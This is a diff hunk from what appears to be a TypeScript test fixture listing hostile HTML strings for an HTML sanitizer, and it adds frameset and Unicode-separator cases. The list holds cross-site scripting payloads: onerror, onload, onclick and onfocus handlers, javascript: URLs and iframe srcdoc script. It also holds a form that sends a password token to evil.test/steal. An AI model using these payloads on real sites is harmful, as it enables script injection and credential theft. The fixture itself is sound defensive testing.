@@ -22,6 +22,8 @@ const html: readonly string[] = [
   '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
   '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
   '<iframe src="https://evil.test/frame"></iframe><object data="https://evil.test/object"></object>',
+  '<div id="frames"><frameset onload=alert(1)><frame src="https://evil.test/set"></div>',
+  'a line\u2028separator <b onclick=alert(1)>x</b>\u2029and another',
   '<embed src="javascript:alert(1)"><object data="javascript:alert(1)"></object>',
   '<form id=root action="https://evil.test/steal"><input name=token type=password><button>Sign in</button></form>',
   '<input autofocus onfocus=alert(1)>',
